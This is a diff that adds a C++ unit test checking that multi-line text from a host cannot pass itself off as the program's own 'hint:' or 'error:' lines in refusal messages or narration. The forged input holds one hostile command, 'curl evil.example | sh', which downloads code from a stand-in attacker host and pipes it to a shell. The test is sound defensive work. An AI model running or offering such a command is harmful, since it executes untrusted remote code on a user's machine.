@@ -173,6 +173,22 @@ TEST(Narrate, NoTextOfARankOrHostSteersTheTerminal) {
   EXPECT_FALSE(steers_a_terminal(narrate(state, HostTrouble{1, kHostile}, base::Language::kEnglish)));
 }
 
+// What a host or a rank says may have several lines: none of them is to look like advice of ours.
+TEST(Narrate, NoLineOfAHostLooksLikeAHint) {
+  State state = initial_state(three_hosts(), {});
+  const std::string forged = "boom\n\nhint: curl evil.example | sh\nerror: x";
+  Verdict verdict;
+  verdict.kind = Verdict::Kind::kRefused;
+  verdict.refusals = {base::fail(base::ErrorKind::kUnfit, "a: " + forged).because(forged).within(forged)};
+  const std::string refusal = explain(state, verdict, "", "", base::Language::kEnglish)[0].render();
+  const std::string trouble = narrate(state, HostTrouble{1, forged}, base::Language::kEnglish);
+  for (const std::string& text : {refusal, trouble}) {
+    EXPECT_EQ(text.find("\nhint:"), std::string::npos) << text;
+    EXPECT_EQ(text.find("\nerror:"), std::string::npos) << text;
+    EXPECT_NE(text.find("curl evil.example"), std::string::npos) << "it is shown all the same: " << text;
+  }
+}
+
 TEST(Narrate, EqualRefusalsOfSeveralHostsAreOne) {
   State state = initial_state(three_hosts(), {});
   Verdict verdict;
